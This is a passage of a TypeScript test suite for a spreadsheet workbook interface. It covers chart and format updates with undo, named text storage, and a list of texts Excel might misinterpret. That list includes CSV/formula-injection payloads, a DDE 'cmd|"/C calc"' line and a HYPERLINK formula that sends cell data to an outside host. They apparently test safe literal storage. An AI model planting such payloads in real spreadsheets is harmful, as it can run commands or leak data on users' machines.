  test('updates the look and the charts of a sheet, and takes both back', async (port) => {
    const name = await port.addSheet({ ...charted, charts: [bars] });
    const before = await snapshot(port);
    const after = { formats: [{ ...block(1, 1, 2, 1), format: '0.0%' }] };
    const updates = [{ sheet: name, look: { before: charted, after }, charts: [bridge] }];
    const changes = [{ area: area(name, 1, 1, 2, 1), cells: [[1], [2]] }];
    const applied = await applyProposal(port, { basis: [], sheets: [], changes, updates });
    assert.deepEqual(plain(await port.listCharts(name)), [bridge]);
    assert.deepEqual((await port.read(area(name, 1, 1, 1, 1))).numberFormats, [['0.0%']]);
    await applied.takeBack();
    assert.deepEqual(plain(await port.listCharts(name)), [bars]);
    assert.deepEqual(await snapshot(port), before);
  }),

  test('keeps texts by name, apart from each other and from the cells', async (port) => {
    const before = await snapshot(port);
    assert.equal(await port.recall('columns'), null);
    const text = JSON.stringify({ 'a<b>&"c"': ["it's", '目标 100%', 'a\u0001b\nc', '\ud83d\ude00', ']]>', '&amp;'] });
    await port.remember('columns', text);
    await port.remember('settings', '1');
    assert.deepEqual(JSON.parse((await port.recall('columns')) ?? ''), JSON.parse(text));
    await port.remember('columns', '[]');
    assert.equal(await port.recall('columns'), '[]');
    assert.equal(await port.recall('settings'), '1');
    assert.deepEqual(plain([...(await port.listKept())].sort()), ['columns', 'settings']);
    await port.remember('columns', null);
    await port.remember('columns', null);
    assert.deepEqual(plain(await port.listKept()), ['settings']);
    assert.equal(await port.recall('columns'), null);
    assert.equal(await port.recall('settings'), '1');
    assert.deepEqual(await snapshot(port), before);
  }),
  ...tableContract,
];

const block = (row: number, column: number, rows: number, columns: number) => ({ row, column, rows, columns });

const charted = {
  name: 'Review',
  cells: [
    ['地区', '金额'],
    ['华东', 10],
    ['华北', 20],
  ],
  formats: [{ ...block(1, 1, 2, 1), format: '#,##0' }],
  styles: [{ ...block(0, 0, 1, 2), bold: true, fill: 'head', color: 'accent', size: 14, align: 'center', line: true }],
  columnWidths: [20, 12],
  rowHeights: [{ row: 0, height: 30 }],
  frozenRows: 1,
  gridlines: false,
  page: { area: block(0, 0, 40, 8), orientation: 'portrait', breaks: [20] },
} as const satisfies SheetDraft;

const bars: ChartDraft = {
  name: 'Targetry bars',
  kind: 'bars',
  title: '地区',
  categories: block(1, 0, 3, 1),
  series: [{ name: '金额', values: block(1, 1, 3, 1), color: 'actual', points: [null, 'bad', null] }],
  at: block(5, 0, 12, 4),
  format: '#,##0',
};

const bridge: ChartDraft = {
  ...bars,
  name: 'Targetry bridge',
  kind: 'bridge',
  series: [
    { name: 'base', values: block(1, 1, 3, 1), color: 'paper' },
    { name: 'up', values: block(1, 2, 3, 1), color: 'up' },
  ],
};

function named(names: readonly NameInfo[]): unknown {
  return plain([...names].sort((a, b) => (a.name < b.name ? -1 : 1)));
}

function byName(charts: readonly ChartDraft[]): unknown {
  return plain([...charts].sort((a, b) => (a.name < b.name ? -1 : 1)));
}

/** Texts that Excel would take for something else when typed. */
const texts = [
  '007',
  '1e5',
  '50%',
  '$5',
  '¥1,000',
  '1/2',
  '2017-02-01',
  '2017年2月1日',
  '3月',
  '12:30',
  'Jan 2017',
  'TRUE',
  'false',
  '#N/A',
  '=1+1',
  ' =1+1',
  '\t=1+1',
  '＝1+1',
  '=HYPERLINK("http://example.com?"&A1)',
  '+1',
  '+1+1',
  '-2+3+cmd|"/C calc"!A0',
  '@SUM(A1)',
  '\ttab',
  '-x',
  '@name',
  "'quoted",
  ' 12 ',
  'line\nbreak',
  'plain text',
];

function grid<T>(rows: number, columns: number, cell: T): T[][] {
  return Array.from({ length: rows }, () => Array.from({ length: columns }, () => cell));
}

async function until(condition: () => boolean): Promise<void> {
  for (let tries = 0; tries < 500; tries++) {
    if (condition()) return;
    await new Promise((resolve) => setTimeout(resolve, 10));
  }
  assert.fail('waited in vain');
}

/** Two new sheets, one under a name that is taken, and changes of formulas in an existing one. */
async function proposal(port: WorkbookPort): Promise<Proposal> {
  const basis = area('Orders', 2, 1, 5, 2);
  const sum: CellInput = { formula: "=SUM('销售 2017'!B2:B4)" };
  return {
    basis: [{ area: basis, values: (await port.read(basis)).values }],
    sheets: [
      { name: 'Orders', cells: [['copy', { formula: '=1+2' }]] },
      {
        name: 'Plan',
        cells: [['x', 1], [], ['y', sum]],
        formats: [{ row: 2, column: 1, rows: 1, columns: 1, format: '0' }],
      },
    ],
    changes: [{ area: area('Orders', 3, 4, 2, 1), cells: [[sum], ['done']] }],
  };
}

/** Everything the port can see of a workbook's content, selection aside. */
async function snapshot(port: WorkbookPort): Promise<unknown> {
  const sheets: { name: string; content: AreaContent | null }[] = [];
  for (const { name } of await port.listSheets()) {
    const used = await port.usedArea(name);
    sheets.push({ name, content: used && (await port.read(used)) });
  }
  return plain(sheets);
}
